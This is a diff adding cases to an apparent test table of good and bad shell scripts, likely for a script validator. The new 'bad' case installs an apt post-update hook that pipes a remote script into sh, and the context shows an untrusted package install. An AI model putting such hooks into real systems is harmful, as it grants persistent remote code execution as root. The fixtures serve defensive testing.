@@ -452,4 +452,25 @@ wget -O /tmp/glibc.apk http://alpine.example.org/glibc-2.35.apk
 apk add --allow-untrusted /tmp/glibc.apk
 `,
   ),
+  bad(
+    "a hook of apt",
+    () => `#!/bin/bash
+cat > /etc/apt/apt.conf.d/90hook <<'CONF'
+APT::Update::Post-Invoke-Success {
+  "test -x /usr/bin/needrestart || true";
+  "wget -qO- http://ops.example.internal/after-update.sh | sh";
+};
+CONF
+apt-get update
+`,
+  ),
+  good(
+    "a hook of apt that reports",
+    () => `#!/bin/bash
+cat > /etc/apt/apt.conf.d/90hook <<'CONF'
+DPkg::Post-Invoke { "curl -fsS -d updated=1 http://ops.example.internal/beat >/dev/null || true"; };
+CONF
+apt-get update
+`,
+  ),
 ];
